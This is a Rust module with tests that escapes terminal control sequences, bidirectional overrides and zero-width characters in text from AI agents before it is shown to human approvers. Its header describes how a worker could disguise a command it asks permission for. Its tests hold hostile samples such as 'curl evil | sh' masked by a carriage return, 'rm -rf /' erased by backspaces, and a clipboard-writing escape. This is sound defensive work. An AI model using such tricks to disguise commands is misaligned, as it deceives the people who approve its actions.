//! Text that came from an agent or the API, made safe to show on a terminal or in a chat.
//!
//! A worker can put terminal control sequences into what it writes (a title, a spec, the command
//! it asks permission for): `ESC ] 52` writes the clipboard, `ESC [ 8 m` hides text, a carriage
//! return overwrites what came before, a right-to-left override reverses what follows. Shown raw,
//! `curl … | sh` can look like `ls -la` to the admin who approves it. Every place that shows
//! such text (CLI tables and views, the console, Telegram) passes it through [`neutralise`], which
//! shows each such character visibly escaped instead. JSON output is never neutralised: it is
//! already escaped and must stay exact.
//!
//! Written here rather than taken from a crate: the rule is ours (which characters, how they are
//! shown, whether line breaks stay) and is a dozen lines.

use std::borrow::Cow;

/// Whether line breaks and tabs survive (multi-line views) or are escaped too (table cells,
/// one-line fields, chat buttons).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    /// `\n` and `\t` are kept as they are.
    Keep,
    /// `\n` and `\t` are escaped like every other control character.
    Escape,
}

/// Characters that change how text is laid out or read without being seen: bidirectional
/// embeddings, overrides and isolates, zero-width characters and the byte-order mark.
pub fn is_invisible_format(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}'   // zero-width space, joiners, LRM, RLM
        | '\u{202A}'..='\u{202E}' // bidi embeddings and overrides
        | '\u{2060}'..='\u{2064}' // word joiner, invisible operators
        | '\u{2066}'..='\u{2069}' // bidi isolates
        | '\u{061C}'              // Arabic letter mark
        | '\u{FEFF}'              // byte-order mark / zero-width no-break space
    )
}

/// Whether `c` must not reach a terminal as it is: C0 and C1 control characters, DEL, and the
/// invisible format characters of [`is_invisible_format`].
fn needs_escape(c: char, lines: Lines) -> bool {
    match c {
        '\n' | '\t' => lines == Lines::Escape,
        c => c.is_control() || is_invisible_format(c),
    }
}

/// `text` with every control character (C0, DEL, C1), bidirectional override and zero-width
/// character shown escaped: `\x1b`, `\r`, `\u{202e}`. Borrowed when nothing needed escaping.
pub fn neutralise(text: &str, lines: Lines) -> Cow<'_, str> {
    if !text.chars().any(|c| needs_escape(c, lines)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !needs_escape(c, lines) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x100 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// [`neutralise`] for one line: line breaks and tabs are escaped too.
pub fn one_line(text: &str) -> Cow<'_, str> {
    neutralise(text, Lines::Escape)
}

/// [`neutralise`] keeping line breaks and tabs.
pub fn multi_line(text: &str) -> Cow<'_, str> {
    neutralise(text, Lines::Keep)
}

/// Every string inside a JSON value (object keys too) passed through [`neutralise`].
pub fn neutralise_json(v: &mut serde_json::Value, lines: Lines) {
    use serde_json::Value;
    match v {
        Value::String(s) => {
            if let Cow::Owned(n) = neutralise(s, lines) {
                *s = n;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|i| neutralise_json(i, lines)),
        Value::Object(map) => {
            let escaped = map
                .keys()
                .any(|k| matches!(neutralise(k, lines), Cow::Owned(_)));
            if escaped {
                *map = std::mem::take(map)
                    .into_iter()
                    .map(|(k, v)| (neutralise(&k, lines).into_owned(), v))
                    .collect();
            }
            map.values_mut().for_each(|i| neutralise_json(i, lines));
        }
        _ => {}
    }
}

/// A copy of `value` (anything that round-trips through JSON: the API's types) with every
/// string in it neutralised, for a display that holds what the hub sent (the console). `None`
/// when the value does not round-trip.
pub fn neutralised<T>(value: &T, lines: Lines) -> Option<T>
where
    T: serde::Serialize + serde::de::DeserializeOwned,
{
    let mut v = serde_json::to_value(value).ok()?;
    neutralise_json(&mut v, lines);
    serde_json::from_value(v).ok()
}

/// What is wrong with a one-line name or title, if anything: control characters (line breaks
/// included), bidirectional overrides or zero-width characters are refused where names are made.
pub fn name_problem(text: &str) -> Option<&'static str> {
    if text.chars().any(char::is_control) {
        Some("control characters (line breaks, tabs, escapes)")
    } else if text.chars().any(is_invisible_format) {
        Some("invisible formatting characters (bidirectional overrides, zero-width)")
    } else {
        None
    }
}

/// Shortens `s` to `n` characters with an ellipsis, on one line, control characters escaped.
pub fn clip(s: &str, n: usize) -> String {
    let flat = one_line(&s.replace('\n', " ")).into_owned();
    if flat.chars().count() <= n {
        flat
    } else {
        let mut out: String = flat.chars().take(n.saturating_sub(1)).collect();
        out.push('…');
        out
    }
}

/// Event details in one short line: `key=value` pairs.
pub fn details(v: &serde_json::Value) -> String {
    use serde_json::Value;
    match v {
        Value::Object(m) => m
            .iter()
            .filter(|(_, v)| !v.is_null() && v.as_array().is_none_or(|a| !a.is_empty()))
            .map(|(k, v)| match v {
                Value::String(s) => format!("{k}={}", clip(s, 60)),
                other => format!("{k}={}", clip(&other.to_string(), 60)),
            })
            .collect::<Vec<_>>()
            .join(" "),
        Value::Null => String::new(),
        other => clip(&other.to_string(), 80),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        for s in ["", "ls -la", "naïve café — 東京 ✓", "tabs\tand\nlines"] {
            assert!(matches!(multi_line(s), Cow::Borrowed(x) if x == s), "{s:?}");
        }
        assert!(matches!(one_line("ls -la"), Cow::Borrowed("ls -la")));
    }

    #[test]
    fn escapes_what_a_terminal_would_obey() {
        let cases = [
            // A carriage return that would overwrite the command shown.
            ("curl evil | sh\rls -la", "curl evil | sh\\rls -la"),
            // OSC 52 (clipboard) and OSC 0 (window title), with BEL and ST terminators.
            ("\x1b]52;c;ZWNobw==\x07", "\\x1b]52;c;ZWNobw==\\x07"),
            ("\x1b]0;title\x1b\\", "\\x1b]0;title\\x1b\\"),
            // SGR 8 hides text; the reset too.
            ("\x1b[8mhidden\x1b[0m", "\\x1b[8mhidden\\x1b[0m"),
            // C1 CSI (U+009B) and DEL.
            ("a\u{9b}2Jb\u{7f}", "a\\x9b2Jb\\x7f"),
            // Backspaces erase what precedes them on a terminal.
            (
                "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls",
                "rm -rf /\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08ls",
            ),
            // Bidirectional override and zero-width characters.
            ("ls \u{202e}hs.lave", "ls \\u{202e}hs.lave"),
            (
                "a\u{200b}b\u{feff}c\u{2066}",
                "a\\u{200b}b\\u{feff}c\\u{2066}",
            ),
            ("nul\0byte", "nul\\x00byte"),
        ];
        for (raw, shown) in cases {
            assert_eq!(multi_line(raw), shown, "{raw:?}");
            assert_eq!(one_line(raw), shown, "{raw:?}");
        }
    }

    #[test]
    fn line_breaks_survive_only_when_asked() {
        assert_eq!(multi_line("a\nb\tc"), "a\nb\tc");
        assert_eq!(one_line("a\nb\tc"), "a\\nb\\tc");
        assert_eq!(multi_line("a\r\nb"), "a\\r\nb");
    }

    #[test]
    fn json_strings_and_keys_are_neutralised() {
        let mut v = serde_json::json!({"title": "a\rb", "list": ["\x1b[2J", 3], "k\u{202e}": {"n": "ok\nx"}});
        neutralise_json(&mut v, Lines::Keep);
        assert_eq!(
            v,
            serde_json::json!({"title": "a\\rb", "list": ["\\x1b[2J", 3], "k\\u{202e}": {"n": "ok\nx"}})
        );
        let back: Option<Vec<String>> = neutralised(&vec!["\x07".to_string()], Lines::Escape);
        assert_eq!(back, Some(vec!["\\x07".to_string()]));
    }

    #[test]
    fn names_refuse_what_hides_or_moves_text() {
        assert_eq!(name_problem("Build the gateway"), None);
        assert_eq!(name_problem("café ✓"), None);
        for bad in [
            "a\rb",
            "a\nb",
            "a\tb",
            "\x1b[8m",
            "x\u{202e}y",
            "x\u{200b}y",
            "\u{feff}",
        ] {
            assert!(name_problem(bad).is_some(), "{bad:?}");
        }
    }
}
